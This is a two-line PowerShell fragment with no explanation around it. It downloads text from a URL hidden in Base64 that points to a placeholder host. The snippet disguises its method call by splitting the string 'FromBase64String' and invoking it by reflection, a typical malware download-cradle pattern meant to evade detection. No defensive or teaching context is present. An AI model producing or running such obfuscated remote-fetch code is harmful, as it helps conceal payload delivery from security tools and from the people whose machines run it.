$wc = New-Object System.Net.WebClient
$wc.DownloadString(([Text.Encoding]::Default.GetString([Convert]::('From'+'Base64String').Invoke('aHR0cDovL2EuZXhhbXBsZS9wL3gudHh0'))))
